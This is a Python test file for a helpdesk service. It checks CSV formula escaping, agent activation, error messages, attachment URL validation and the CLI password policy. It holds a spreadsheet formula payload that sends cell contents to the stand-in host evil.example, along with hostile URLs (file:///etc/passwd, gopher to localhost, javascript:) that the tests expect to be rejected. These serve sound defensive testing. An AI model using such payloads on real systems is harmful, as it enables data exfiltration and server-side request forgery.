"""Issue 12 item 8: CSV formulas neutralised, `active` on agents, readable delivery errors,
http(s)-only attachment URLs in the `api` format, one password policy for API and CLI."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy.exc import IntegrityError

from helpdesk.cli import agents_create
from helpdesk.extensions import db
from helpdesk.models import Agent
from helpdesk.services.ingest.deliveries import readable_error
from tests.support import factories
from tests.support.live import api_message

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_csv_cells_never_start_a_formula(app, api, supervisor, drain):
    channel = factories.channel(app, "api", name="@SUM(A1:A9)")
    assert api.post_api_webhook(channel, api_message()).status_code == 200
    drain()
    client = api.as_(supervisor)
    ticket = client.get("/api/v1/tickets").json()["items"][0]
    response = client.patch(f"/api/v1/tickets/{ticket['id']}",
                            json={"contact_reason": FORMULA, "status": "solved"})
    assert response.status_code == 200, response.text
    assert client.get("/api/v1/metrics/contact-reasons").json()["items"][0]["reason"] == FORMULA
    rows = list(csv.reader(io.StringIO(client.get("/api/v1/metrics/contact-reasons.csv").text)))
    assert rows[1][0] == "'" + FORMULA
    grouped = client.get("/api/v1/metrics/summary.csv?group_by=channel").text
    labels = [row[1] for row in csv.reader(io.StringIO(grouped))][1:]
    assert labels == ["'@SUM(A1:A9)"]


def test_agent_resource_says_whether_active(api, admin, agent):
    client = api.as_(admin)
    assert client.get("/api/v1/auth/me").json()["active"] is True
    changed = client.patch(f"/api/v1/agents/{agent.id}", json={"active": False}).json()
    assert changed["active"] is False
    listed = {a["id"]: a["active"] for a in client.get("/api/v1/agents").json()["items"]}
    assert listed == {admin.id: True, agent.id: False}


def test_agents_are_created_and_changed_with_every_field_of_their_resource(api, admin, agent):
    """POST takes the resource's `team_id` and `active`; PATCH takes `email` (409 when
    another agent has it); an unknown team is 422."""
    client = api.as_(admin)
    team = client.post("/api/v1/teams", json={"name": "Billing"}).json()
    created = client.post("/api/v1/agents", json={
        "email": "Nina@Example.com", "name": "Nina", "team_id": team["id"], "active": False,
        "password": "long enough"})
    assert created.status_code == 201, created.text
    assert (created.json()["team_id"], created.json()["active"]) == (team["id"], False)
    assert created.json()["email"] == "nina@example.com"
    login = {"email": "nina@example.com", "password": "long enough"}
    assert api.post("/api/v1/auth/login", json=login).status_code == 401  # inactive
    unknown = client.post("/api/v1/agents", json={"email": "x@example.com", "name": "X",
                                                  "team_id": team["id"] + 1000})
    assert (unknown.status_code, unknown.json()["error"]["code"]) == (422, "unknown_team")
    nina = created.json()["id"]
    moved = client.patch(f"/api/v1/agents/{nina}", json={"email": "NINA@new.example.com",
                                                         "active": True})
    assert moved.status_code == 200 and moved.json()["email"] == "nina@new.example.com"
    login["email"] = "nina@new.example.com"
    assert api.post("/api/v1/auth/login", json=login).status_code == 200
    taken = client.patch(f"/api/v1/agents/{nina}", json={"email": agent.email})
    assert taken.status_code == 409
    assert client.patch(f"/api/v1/agents/{nina}", json={"email": "nina@new.example.com"}).ok
    # languages as tickets' languages are detected (ISO 639, lower case), or a 400
    spoken = client.patch(f"/api/v1/agents/{nina}", json={"languages": ["ES", "pt_BR", "de-AT"]})
    assert spoken.status_code == 200 and spoken.json()["languages"] == ["es", "pt", "de"]
    unknown = client.patch(f"/api/v1/agents/{nina}", json={"languages": ["english"]})
    assert unknown.status_code == 400 and "languages" in unknown.json()["error"]["fields"]


def test_delivery_errors_name_the_cause_not_the_sql(app, admin):
    with app.app_context():
        db.session.add(Agent(email=admin.email, name="twin", role="agent", level=1))
        with pytest.raises(IntegrityError) as caught:
            db.session.flush()
        db.session.rollback()
    text = readable_error(caught.value)
    assert "Integrity" in text or "UniqueViolation" in text
    assert "INSERT" not in text and "[SQL" not in text and admin.email not in text
    assert readable_error(ValueError("bad date")) == "ValueError: bad date"


@pytest.mark.parametrize("url", ["file:///etc/passwd", "gopher://127.0.0.1:70/x",
                                 "javascript:alert(1)", "//no-scheme.example/a", "https://",
                                 "http://[::1/x"])  # an IPv6 host left open: it was a 500
def test_api_attachments_take_http_urls_only(app, api, url):
    channel = factories.channel(app, "api")
    bad = api_message(attachments=[{"url": url, "filename": "a.pdf"}])
    response = api.post_api_webhook(channel, bad)
    assert response.status_code == 400, response.text
    assert "http" in response.json()["error"]["message"]
    good = api_message(event_id="e2", attachments=[{"url": "https://cdn.example/a.pdf"}])
    assert api.post_api_webhook(channel, good).status_code == 200


def test_cli_applies_the_password_policy_and_prints_a_random_one(app, api):
    runner = app.test_cli_runner()
    refused = runner.invoke(agents_create, ["--email", "x@example.com", "--name", "X",
                                            "--password", "x"])
    assert refused.exit_code != 0 and "8 characters" in refused.output
    assert api.post("/api/v1/auth/login", json={"email": "x@example.com",
                                                "password": "x"}).status_code == 401
    created = runner.invoke(agents_create, ["--email", "y@example.com", "--name", "Y"])
    assert created.exit_code == 0, created.output
    password = created.output.split("password: ", 1)[1].split()[0]
    assert len(password) >= 12
    login = api.post("/api/v1/auth/login", json={"email": "y@example.com",
                                                 "password": password})
    assert login.status_code == 200
